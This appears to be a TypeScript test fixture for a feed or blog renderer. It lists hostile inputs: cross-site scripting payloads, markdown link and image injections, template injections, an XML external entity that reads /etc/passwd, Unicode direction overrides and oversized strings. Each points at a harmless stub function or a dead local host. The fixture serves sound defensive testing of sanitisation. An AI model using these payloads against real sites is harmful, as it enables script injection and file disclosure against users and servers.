/** The host that an attack would make a browser talk to. Nothing listens there, so the server's own requests fail at once. */
export const TRAP = 'http://127.0.0.1:9';

/** Zalgo: `marks` combining marks on every letter. */
const zalgo = (text: string, marks: number): string =>
  [...text].map((letter) => letter + '\u0336\u0300\u0489'.repeat(marks)).join('');

/** Texts that attack a page; a script in them would call `attacked()`. Any field of a feed or a post may hold them. */
const TEXTS: Readonly<Record<string, string>> = {
  'script element': '<script>attacked()</script>',
  'script element in odd writing': '<ScRiPt/x>attacked()</sCrIpT\t>',
  'script of another host': `<script src=${TRAP}/a.js></script>`,
  'script in a script': '<scr<script>ipt>attacked()</scr</script>ipt>',
  'image with a handler': '<img src=x onerror=attacked()>',
  'image never closed': '<img src=x onerror=attacked()//',
  'handler without spaces': '<svg/onload=attacked()>',
  'toggle handler': '<details open ontoggle=attacked()><summary>x</summary></details>',
  'focus handler': '<input autofocus onfocus=attacked()>',
  'animation handler': '<svg><animate onbegin=attacked() attributeName=x dur=1s></svg>',
  'svg script': '<svg><script href="data:,attacked()"/><script>attacked()</script></svg>',
  'svg link': '<svg><a xlink:href="javascript:attacked()"><text y="20">x</text></a></svg>',
  'svg use': `<svg><use href="${TRAP}/a.svg#x"/><foreignObject><body onload=attacked()></foreignObject></svg>`,
  'link with javascript': '<a href="javascript:attacked()">x</a>',
  'link with a tab in javascript': '<a href="java&#x09;script:attacked()">x</a>',
  'link with references': '<a href="&#106;&#97;vascript&colon;attacked&lpar;&rpar;">x</a>',
  'link with vbscript': '<a href="vbscript:attacked()">x</a>',
  'link with data': '<a href="data:text/html,<script>attacked()</script>">x</a>',
  'frame with javascript': '<iframe src="javascript:parent.attacked()"></iframe>',
  'frame with a document': '<iframe srcdoc="<script>parent.attacked()</script>"></iframe>',
  'object and embed': `<object data="${TRAP}/a"></object><embed src="${TRAP}/b">`,
  'base address': `<base href="${TRAP}/">`,
  refresh: `<meta http-equiv="refresh" content="0;url=${TRAP}/">`,
  'style sheet of another host': `<link rel=stylesheet href=${TRAP}/a.css>`,
  'style element': `<style>*{display:none!important}body{background:url(${TRAP}/a)}</style>`,
  'style attribute': `<p style="position:fixed;inset:0;z-index:9;background:url(${TRAP}/a)">x</p>`,
  'css text': `x;background:url(${TRAP}/a);}*{display:none}/*`,
  srcset: `<img srcset="${TRAP}/a 1x, ${TRAP}/b 2x"><picture><source srcset="${TRAP}/c"></picture>`,
  'video and audio': `<video poster=${TRAP}/a src=${TRAP}/b><source onerror=attacked()></video><audio src=${TRAP}/c>`,
  form: `<form action=${TRAP}/a><button formaction="javascript:attacked()">x</button></form>`,
  'mutation by noscript': '<noscript><p title="</noscript><img src=x onerror=attacked()>">',
  'mutation by style':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=attacked()&gt;">',
  'mutation by form': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=attacked()>',
  'mutation by a comment': '<svg></p><style><a id="</style><img src=1 onerror=attacked()>">',
  'end of the page data': '</script><script>attacked()</script>',
  'end of every raw text': '</textarea></title></style></noscript></xmp></template><img src=x onerror=attacked()>',
  'double quotes': '" autofocus onfocus="attacked()" x="',
  'single quotes': "' autofocus onfocus='attacked()' x='",
  'end of a JSON text': '"}]}}; attacked(); //',
  backslashes: '\\"}; attacked(); //\\',
  'escaped JSON': '\\u003c/script\\u003e\\u003cscript\\u003eattacked()\\u003c/script\\u003e',
  'line separators': 'a\u2028attacked()\u2029b',
  'escaped once': '&lt;script&gt;attacked()&lt;/script&gt;',
  'escaped twice': '&amp;lt;img src=x onerror=attacked()&amp;gt;',
  'numeric references': '&#60;img src=x onerror=attacked()&#62;&#x3c;svg/onload=attacked()&#x3e;&#0;&#1114112;&#xd800;',
  'UTF-7': '+ADw-script+AD4-attacked()+ADw-/script+AD4-',
  'other brackets': '＜script＞attacked()＜/script＞ ‹img src=x onerror=attacked()›',
  'template of Angular': "{{constructor.constructor('attacked()')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text of an attack
  'templates of others': '${attacked()} <%= attacked() %> #{attacked()} [[${attacked()}]] {%attacked()%}',
  'names of the prototype': '__proto__ constructor toString',
  'direction overrides': '\u202Ecod.exe\u202D \u2066\u2067\u2068 \u200F\u061C',
  'control characters': '\u0000\u0001\u0007\u0008\u001B[31m\u007F\u0080\u009B31m\u00AD',
  'half surrogates': '\uD800 \uDC00 \uDFFF\uD83D',
  'null bytes in a tag': '<\u0000script>attacked()</scr\u0000ipt><img src=x on\u0000error=attacked()>',
  'zero width': `a${'\u200B\u200C\u200D\u2060\uFEFF'.repeat(400)}b`,
  'nothing but zero width': '\u200B\u200C\u200D\u2060',
  zalgo: zalgo('Zalgo comes', 20),
  'nothing but marks': '\u0300\u0489'.repeat(200),
  'huge word': 'W'.repeat(100_000),
  'huge word of wide letters': '﷽'.repeat(3_000),
  'huge space': `a${'\u00A0'.repeat(100_000)}b`,
  'huge title of markup': '<b>'.repeat(30_000),
  'family of emoji': '👩‍👩‍👧‍👦'.repeat(200),
  'end of a CDATA section': 'x ]]> <script>attacked()</script>',
  'XML of its own': '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  'comment never ended': '<!-- <script>attacked()</script>',
};

/** Markdown that attacks a post's page. */
const MARKDOWN: Readonly<Record<string, string>> = {
  links: [
    ...['[a](javascript:attacked())', '[b](JaVaScRiPt:attacked())', '[c](java\tscript:attacked())'],
    ...[
      '[d](&#106;avascript:attacked())',
      '[e](data:text/html,<script>attacked()</script>)',
      '[f](vbscript:attacked())',
    ],
    ...[
      '<javascript:attacked()>',
      '[g][1]',
      '[h](//127.0.0.1:9 "\\" onmouseover=attacked() \\"")',
      '[i](< javascript:attacked()>)',
    ],
    '\n[1]: javascript:attacked()',
  ].join('\n'),
  images: [
    ...[
      '![a](x"onerror="attacked())',
      '![b](javascript:attacked())',
      `![c](${TRAP}/a.png)`,
      '![d"onerror="attacked()](x)',
    ],
    ...['![e](data:image/svg+xml,<svg/onload=attacked()>)', '[![f](javascript:attacked())](javascript:attacked())'],
  ].join('\n'),
  'raw blocks':
    '<div>\n<script>attacked()</script>\n</div>\n\n<!--\n-->\n<img src=x onerror=attacked()>\n\n<style>\n*{display:none}\n</style>',
  'code with a language': '```js"><img/src=x/onerror=attacked()>\n</code></pre><script>attacked()</script>\n```',
  tables:
    '| <img src=x onerror=attacked()> | b |\n|---|---|\n| [x](javascript:attacked()) | </td></table><script>attacked()</script> |',
  'names of the page': '# root\n\n# page-data\n\n# main\n\na[^main]\n\n[^main]: <a id=main name=root>b</a>',
  'a wide table': `|${' a |'.repeat(100)}\n|${'---|'.repeat(100)}\n|${` ${'W'.repeat(40)} |`.repeat(100)}`,
  'deep lists and quotes': `${'> '.repeat(200)}a\n\n${Array.from({ length: 80 }, (_, depth) => `${'  '.repeat(depth)}- ${depth}`).join('\n')}`,
  'wide code': `    ${'W'.repeat(5_000)}\n\n\`${'W'.repeat(5_000)}\``,
};

/** Addresses that are none that a page may link to, and some that are but try to leave their attribute. */
export const HOSTILE_ADDRESSES: readonly string[] = [
  ...['javascript:attacked()', ' JaVaScRiPt:attacked()', 'java\nscript:attacked()', '\u0001javascript:attacked()'],
  ...[`javascript:${TRAP}/%0aattacked()`, 'feed:javascript:attacked()', 'view-source:javascript:attacked()'],
  ...[
    'data:text/html,<script>attacked()</script>',
    'data:image/svg+xml,<svg onload="attacked()"/>',
    'vbscript:attacked()',
  ],
  ...['blob:attacked', 'file:///etc/passwd', 'about:blank', 'http:javascript:attacked()', 'https://', 'http://[', '//'],
  ...[
    `${TRAP}/" onmouseover="attacked()" x="`,
    `${TRAP}/'><script>attacked()</script>`,
    `${TRAP}/<svg/onload=attacked()>`,
  ],
  ...[`${TRAP}/a)](javascript:attacked())`, `${TRAP}/\u202Efdp`, `${TRAP}/${'a'.repeat(3_000)}`],
  ...['https://youtube.com/shorts/"><script>attacked()</script>', 'https://youtu.be/javascript:"onload='],
];

export const HOSTILE_TEXTS: readonly string[] = Object.values(TEXTS);
export const HOSTILE_MARKDOWN: readonly string[] = Object.values(MARKDOWN);
